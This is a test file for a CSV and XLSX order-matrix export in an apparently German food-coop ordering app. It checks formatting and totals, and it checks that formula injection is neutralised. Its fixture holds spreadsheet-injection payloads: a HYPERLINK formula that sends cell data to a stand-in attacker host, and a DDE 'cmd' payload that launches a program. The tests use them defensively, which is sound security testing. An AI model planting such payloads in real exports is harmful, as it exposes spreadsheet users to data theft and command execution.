import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { dispatch } from '../../src/core/api/dispatch.ts'
import { csvText } from '../../src/core/spreadsheets/cells.ts'
import type { Session } from '../../src/core/app/session.ts'
import { formatScaled } from '../../src/shared/decimal.ts'
import de from '../../src/shared/i18n/de.ts'
import { type TempSession, tempSession } from '../support/workspace.ts'

let temp: TempSession
let session: Session

beforeEach(async () => {
  temp = tempSession({ prefix: 'puente-matrix-' })
  session = temp.session
  await session.openDemo()
})

afterEach(() => temp.dispose())

const db = () => session.requireWorkspace().db
const roundId = () => (db().prepare('SELECT id FROM round').get() as { id: string }).id

async function exportMatrix(format: 'xlsx' | 'csv') {
  const res = await dispatch({ session }, 'orders.exportMatrix', { roundId: roundId(), format })
  if (!res.ok) throw new Error(JSON.stringify(res.error))
  const r = res.result as { fileName: string; mime: string; dataBase64: string }
  return { ...r, bytes: Buffer.from(r.dataBase64, 'base64') }
}

/** Names a spreadsheet would run as formulas. */
const EVIL = {
  kornblume: '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
  weltladen: '+cmd|" /C calc"!A0',
  wien: '-2+3',
  germinal: '@SUM(1+1)'
}

function poison() {
  const rename = db().prepare('UPDATE buyer SET name = ? WHERE name = ?')
  rename.run(EVIL.kornblume, 'Foodcoop Kornblume')
  rename.run(EVIL.weltladen, 'Weltladen Connewitz')
  rename.run(EVIL.wien, 'Foodcoop Ottakring')
  rename.run(EVIL.germinal, 'Cooperativa Germinal')
  db().prepare("UPDATE product SET name_de = '=1+2 Mate' WHERE sku = 'LH-YM500'").run()
}

describe('order matrix export', () => {
  it('CSV: UTF-8 with BOM, semicolons, buyers × products, hub members as rows, totals', async () => {
    const file = await exportMatrix('csv')
    expect(file.fileName).toBe('Bestellungen Winterrunde 2026-27.csv')
    expect(file.mime).toBe('text/csv;charset=utf-8')
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parse(file.bytes, { delimiter: ';', bom: true, relax_column_count: false }) as string[][]
    const [skus, names] = rows
    expect(skus!.slice(0, 2)).toEqual([de.forms.buyer, de.forms.hub])
    expect(skus!.at(-1)).toBe('Summe (EUR)')
    expect(names).toContain('Mate-Tee mit Stängeln 500 g')
    const col = (sku: string) => skus!.indexOf(sku)
    const row = (buyer: string, hub = '') => rows.find((r) => r[0] === buyer && r[1] === hub)!
    expect(row('Foodcoop Kornblume')[col('LH-YM500')]).toBe('12')
    expect(row('Mate-Kollektiv Bochum', 'Verteilknoten Ruhr')[col('LH-YM500')]).toBe('5')
    expect(row('Solikreis Dortmund Nord', 'Verteilknoten Ruhr')[col('LH-YM1K')]).toBe('3')
    expect(row('Foodcoop Kornblume')[col('TT-BB500')]).toBe('0')
    const totals = rows.at(-1)!
    expect(totals[0]).toBe(de.forms.totalUnits)
    // LH-YM500: Kornblume 12, Weltladen 8, Bochum 5.
    expect(totals[col('LH-YM500')]).toBe('25')
    // Amounts with a decimal comma; the buyers' amounts add up to the total.
    const amounts = rows.slice(2, -1).map((r) => Number(r.at(-1)!.replace(',', '.')))
    expect(totals.at(-1)).toMatch(/^\d+,\d{2}$/)
    expect(Math.round(amounts.reduce((a, b) => a + b, 0) * 100)).toBe(Math.round(Number(totals.at(-1)!.replace(',', '.')) * 100))
    // A buyer's amount is its order total.
    const kornblume = (db().prepare("SELECT id FROM buyer WHERE name = 'Foodcoop Kornblume'").get() as { id: string }).id
    const res = await dispatch({ session }, 'orders.get', { roundId: roundId(), buyerId: kornblume })
    const order = (res.ok ? res.result : null) as { totalMinor: number }
    expect(order.totalMinor).toBeGreaterThan(0)
    expect(row('Foodcoop Kornblume').at(-1)).toBe(formatScaled(order.totalMinor, 2).replace('.', ','))
  })

  it('neutralises formula-like text in the CSV', async () => {
    poison()
    const file = await exportMatrix('csv')
    const rows = parse(file.bytes, { delimiter: ';', bom: true }) as string[][]
    const buyers = rows.map((r) => r[0])
    for (const name of Object.values(EVIL)) {
      expect(buyers).toContain(`'${name}`)
      expect(buyers).not.toContain(name)
    }
    expect(rows[1]).toContain("'=1+2 Mate")
    // No field starts with a formula character.
    for (const r of rows) for (const v of r) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/)
  })

  it('writes formula-like text in the XLSX as string cells, exactly as typed, and no formulas at all', async () => {
    poison()
    const file = await exportMatrix('xlsx')
    expect(file.fileName).toBe('Bestellungen Winterrunde 2026-27.xlsx')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(file.bytes as unknown as ArrayBuffer)
    const ws = wb.worksheets[0]!
    const texts: string[] = []
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
        if (typeof cell.value === 'string') texts.push(cell.value)
      })
    )
    // String cells are never formulas, so the names show as typed, without an apostrophe.
    for (const name of Object.values(EVIL)) {
      expect(texts).toContain(name)
      expect(texts).not.toContain(`'${name}`)
    }
    expect(texts).toContain('=1+2 Mate')
    // Quantities are numbers.
    const skus = ws.getRow(1).values as unknown[]
    const col = skus.indexOf('LH-YM500')
    let found = false
    ws.eachRow((row) => {
      if (row.getCell(1).value === EVIL.kornblume) {
        expect(row.getCell(col).value).toBe(12)
        found = true
      }
    })
    expect(found).toBe(true)
  })

  it('csvText covers = + - @ tab and carriage return, and leaves other text alone', () => {
    for (const s of ['=1', '+1', '-1', '@x', '\t=1', '\r=1']) expect(csvText(s)).toBe(`'${s}`)
    for (const s of ['Foodcoop', ' =1', "'=1", '1-2', 'a=b']) expect(csvText(s)).toBe(s)
  })
})
